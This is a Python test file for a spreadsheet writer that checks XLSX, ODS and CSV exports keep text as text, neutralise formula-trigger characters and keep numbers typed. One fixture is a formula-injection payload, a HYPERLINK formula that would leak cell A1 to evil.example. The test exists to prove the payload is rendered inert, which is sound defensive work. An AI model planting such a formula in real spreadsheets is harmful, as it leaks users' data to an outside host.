"""The one spreadsheet writer: text is never a formula, numbers stay numbers, in XLSX, ODS and CSV."""

import csv
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from vigie.core.spreadsheets import (
    Sheet,
    column_letters,
    csv_bytes,
    csv_lines,
    ods_bytes,
    sheet_names,
    xlsx_bytes,
)
from vigie.indicators import sheetio

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
TEXTS = [HYPERLINK, "+33 5 62 00 00 00", "-x", "@SUM(A1)", "\tonglet", "\rretour", "2025-T1"]
NUMBERS = [-3, Decimal("-2.5"), 10.5, 0, 1250]


def _sheet():
    return Sheet("Valeurs", [TEXTS, NUMBERS], header=["a", "b", "c", "d", "e", "f", "g"])


def test_xlsx_writes_text_as_text_and_numbers_as_numbers():
    data = xlsx_bytes([_sheet()])
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(data))["Valeurs"]
    assert [c.value for c in sheet[2]] == TEXTS
    assert {c.data_type for c in sheet[2]} == {"s"}
    assert [c.value for c in sheet[3][:5]] == [-3, -2.5, 10.5, 0, 1250]
    assert {c.data_type for c in sheet[3][:5]} == {"n"}
    assert sheet["A1"].font.b
    # Our reader gives back the same cells.
    assert sheetio.read_xlsx(data, "Valeurs")[1][1:] == [tuple(TEXTS), (-3, -2.5, 10.5, 0, 1250)]


def test_ods_writes_text_as_text_and_numbers_as_numbers():
    data = ods_bytes([_sheet()])
    xml = zipfile.ZipFile(io.BytesIO(data)).read("content.xml").decode()
    assert "table:formula" not in xml
    assert xml.count('office:value-type="string"') == len(TEXTS) + 7  # the header too
    assert 'office:value-type="float" office:value="-2.5"><text:p>-2,5</text:p>' in xml
    assert sheetio.read_ods(data, "Valeurs")[1][1:] == [tuple(TEXTS), (-3, -2.5, 10.5, 0, 1250)]


def test_csv_neutralises_formula_triggers_but_not_numbers():
    data = csv_bytes([TEXTS, NUMBERS, [None, True, "ok"]])
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == [
        "'" + HYPERLINK,
        "'+33 5 62 00 00 00",
        "'-x",
        "'@SUM(A1)",
        "'\tonglet",
        "'\rretour",
        "2025-T1",
    ]
    assert rows[1] == ["-3", "-2,5", "10,5", "0", "1250"]
    assert rows[2] == ["", "True", "ok"]
    assert text.endswith("\r\n")


def test_csv_lines_stream_the_same_file():
    rows = [["a", 1.5], ["=1+1", -2]]
    assert "".join(csv_lines(iter(rows))).encode() == csv_bytes(rows)


def test_characters_xml_cannot_carry_are_dropped():
    sheet = Sheet("S", [["bip\x07 ok", "nul\x00"]])
    workbook = load_workbook(io.BytesIO(xlsx_bytes([sheet])))
    assert [c.value for c in workbook["S"][1]] == ["bip ok", "nul"]
    assert sheetio.read_ods(ods_bytes([sheet]), "S")[1] == [("bip ok", "nul")]


def test_protected_template_layout():
    sheet = Sheet(
        "Valeurs",
        [[1, "x", None]],
        header=["Id", "Libellé", "Valeur"],
        widths=[10, 60, 14],
        editable=[False, False, True],
        wrapped=[False, True, False],
        protected=True,
        freeze_header=True,
    )
    workbook = load_workbook(io.BytesIO(xlsx_bytes([sheet, Sheet("Consignes", [["Lire"]])])))
    values = workbook["Valeurs"]
    assert workbook.sheetnames == ["Valeurs", "Consignes"]
    assert values.protection.sheet and values.freeze_panes == "A2"
    assert values["A2"].protection.locked and not values["C2"].protection.locked
    assert values["C2"].fill.fgColor.rgb == "FFFFF5CC"
    assert values["B2"].alignment.wrap_text
    assert values.column_dimensions["B"].width == 60


def test_sheet_names_are_valid_and_unique():
    sheets = [Sheet(name, []) for name in ("a/b:c", "A/B:C", "", "x" * 40, "x" * 40)]
    assert sheet_names(sheets) == ["abc", "ABC 2", "Feuille 3", "x" * 31, "x" * 29 + " 2"]


def test_column_letters():
    assert [column_letters(i) for i in (0, 25, 26, 701, 702, 16383)] == [
        "A",
        "Z",
        "AA",
        "ZZ",
        "AAA",
        "XFD",
    ]


def test_equal_values_of_different_types_keep_their_type():
    # Cells are written once per value and style: 1, 1.0, True and "1" compare equal or alike.
    row = [1, 1.0, True, "1", Decimal("1"), 1]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([Sheet("S", [row])])))["S"]
    assert [c.data_type for c in sheet[1]] == ["n", "n", "s", "s", "n", "n"]
    assert [c.value for c in sheet[1]] == [1, 1, "True", "1", 1, 1]
    assert sheetio.read_ods(ods_bytes([Sheet("S", [row])]), "S")[1] == [(1, 1, "True", "1", 1, 1)]
